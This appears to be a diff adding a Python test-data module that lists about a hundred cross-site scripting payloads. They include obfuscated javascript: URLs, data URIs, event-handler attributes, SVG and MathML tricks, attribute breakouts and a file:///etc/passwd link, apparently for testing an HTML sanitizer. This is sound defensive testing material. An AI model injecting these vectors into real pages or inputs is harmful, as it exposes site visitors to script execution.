@@ -1,0 +1,60 @@
+"""A hundred ways to have a page's HTML run code, load a style, or ask for something: variants of what is known."""
+
+_CALL = "alert(1)"
+_ADDRESSES = [
+    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f" javascript:{_CALL}", f"\x01javascript:{_CALL}",
+    f"java\tscript:{_CALL}", f"java\nscript:{_CALL}", f"java\r\nscript:{_CALL}", f"javascript&colon;{_CALL}",
+    f"&#106;avascript:{_CALL}", f"&#x6A&#x61vascript:{_CALL}", f"&#0000106avascript:{_CALL}", f"javascript&#58;{_CALL}",
+    f"jav&Tab;ascript:{_CALL}", f"jav&NewLine;ascript:{_CALL}", f"\u00a0javascript:{_CALL}", f"javascript:/*-->{_CALL}",
+    f"vbscript:{_CALL}", f"livescript:{_CALL}", f"mocha:{_CALL}", f"data:text/html,<script>{_CALL}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={_CALL}>",
+    "data:application/xhtml+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"view-source:javascript:{_CALL}",
+    "blob:https://a.example/1", "file:///etc/passwd", f"feed:javascript:{_CALL}", f"jar:javascript:{_CALL}!/",
+]  # fmt: skip
+_LINKS = [f'<p>a <a href="{address}">b</a></p>' for address in _ADDRESSES]
+_PICTURES = [f'<p><img src="{address}" alt="b"></p>' for address in _ADDRESSES[:1] + _ADDRESSES[19:23]]
+_MARKUP = [
+    f"<script>{_CALL}</script>", "<SCRIPT SRC=//a.example/x.js></SCRIPT>", f"<script/x>{_CALL}</script >",
+    f"<<script>{_CALL}//<</script>", f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<p>&lt;script&gt;{_CALL}&lt;/script&gt;</p>",
+    f"<p>&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;</p>", f"<img src=x onerror={_CALL} alt=b>",
+    f"<img src=x alt='b\" onerror=\"{_CALL}'>", f"<img src=x alt='b' title='\"><script>{_CALL}</script>'>",
+    f"<img src='x\" onerror=\"{_CALL}' alt=b>", f"<img srcset='javascript:{_CALL} 2x, x 1x' alt=b>",
+    f"<img src=`x` onerror={_CALL} alt=b>", f"<image href=x onerror={_CALL} alt=b>", f"<body onload={_CALL}>a",
+    f"<svg onload={_CALL}>a</svg>", f"<svg><script>{_CALL}</script>a</svg>", f"<svg><a xlink:href=javascript:{_CALL}>a</a></svg>",
+    f"<svg><animate onbegin={_CALL} attributeName=x>a</svg>", f"<svg><foreignObject><p onclick={_CALL}>a</p></foreignObject></svg>",
+    f"<svg><style><img src=x onerror={_CALL}></style></svg>", f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>#x'>a</svg>",
+    f"<math><mi xlink:href=javascript:{_CALL}>a</mi></math>", f"<math href=javascript:{_CALL}><mi>a</mi></math>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}></style></table></mtext></math>",
+    f"<math><annotation-xml encoding=text/html><img src=x onerror={_CALL}></annotation-xml><mi>a</mi></math>",
+    f"<math><mi mathvariant='\"><script>{_CALL}</script>'>a</mi></math>", f"<math><mi>&lt;img src=x onerror={_CALL}&gt;</mi></math>",
+    f"<math><semantics><mi>a</mi><annotation encoding=application/x-tex>&lt;/span>&lt;script>{_CALL}&lt;/script></annotation></semantics></math>",
+    f"<span class=katex>&lt;img src=x onerror={_CALL}&gt;</span>", f"<span class='math inline'>&lt;svg onload={_CALL}&gt;</span>",
+    f"<script type=math/tex></span><img src=x onerror={_CALL}></script>a",
+    f"<iframe src=javascript:{_CALL}></iframe>", f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
+    f"<iframe src='https://a.example/\"onload={_CALL}//'></iframe>", f"<iframe title='\"><script>{_CALL}</script>' src=https://a.example/></iframe>",
+    f"<object data=javascript:{_CALL}>a</object>", f"<object data='data:text/html,<script>{_CALL}</script>'>a</object>",
+    f"<embed src=javascript:{_CALL}>", "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
+    f"<video src=x onerror={_CALL}>a</video>", f"<video poster=javascript:{_CALL}>a</video>",
+    f"<video><source src=x onerror={_CALL}>a</video>", f"<audio src=javascript:{_CALL} autoplay>a</audio>",
+    f"<details open ontoggle={_CALL}><summary onclick={_CALL}>a</summary>b</details>", f"<marquee onstart={_CALL}>a</marquee>",
+    f"<form action=javascript:{_CALL}><input type=submit value=a>b</form>", f"<button formaction=javascript:{_CALL}>a</button>",
+    f"<input onfocus={_CALL} autofocus>a", f"<select onchange={_CALL}><option>a</select>", f"<textarea onfocus={_CALL}>a</textarea>",
+    f"<textarea>&lt;/textarea>&lt;script>{_CALL}&lt;/script></textarea>", f"<pre>&lt;/code>&lt;/pre>&lt;script>{_CALL}&lt;/script></pre>",
+    f"<pre class='language-\"><script>{_CALL}</script>'>a</pre>", f"<pre data-lang='\" onclick=\"{_CALL}'>a</pre>",
+    f"<base href=javascript:{_CALL}//><a href=x>a</a>", f"<base href='data:text/html,'><p><a href='<script>{_CALL}</script>'>a</a>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>a", f"<link rel=stylesheet href=javascript:{_CALL}>a",
+    f"<style>@import 'javascript:{_CALL}';</style>a", f"<p style='background:url(javascript:{_CALL})'>a</p>",
+    f"<p style='width:expression({_CALL})'>a</p>", f"<p onclick={_CALL} onmouseover={_CALL}>a</p>",
+    f"<table background=javascript:{_CALL}><tr><th onclick={_CALL}>a<th>b<tr><td>c<td>d</table>",
+    f"<table><tr><td colspan='2\" onclick=\"{_CALL}'>a<td>b<tr><td>c<td>d</table>", f"<ol start='1\" onclick=\"{_CALL}'><li>a</ol>",
+    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>a</noscript>b", f"<template><img src=x onerror={_CALL}></template>a",
+    f"<!--><img src=x onerror={_CALL}>-->a", f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->a",
+    f"<![CDATA[<script>{_CALL}</script>]]>a", f"<?xml-stylesheet href='javascript:{_CALL}'?>a", f"<plaintext>&lt;<script>{_CALL}</script>",
+    f"<xmp><script>{_CALL}</script></xmp>", f"<noembed><script>{_CALL}</script></noembed>a", f"<title><script>{_CALL}</script></title>a",
+    f"<p id=a><a href=#n id='\"><script>{_CALL}</script>'>1</a></p><p id=n class=footnote><a href=#a>1</a> b</p>",
+    f"<a data-embed='\"><script>{_CALL}</script>' href=https://a.example/>a</a>", f"<a data-embed=video href=javascript:{_CALL}>a</a>",
+    f"<x onclick={_CALL}>a</x>", f"<my-tag is=x onclick={_CALL}>a</my-tag>", f"<p>\ufeff<scr\0ipt>{_CALL}</scr\0ipt></p>",
+    f"<a href='https://a.example/' target=_blank onclick={_CALL}>a</a>", f"<area href=javascript:{_CALL}>a", f"<a ping=javascript:{_CALL} href=x>a</a>",
+]  # fmt: skip
+
+INJECTIONS = [*_LINKS, *_PICTURES, *_MARKUP]
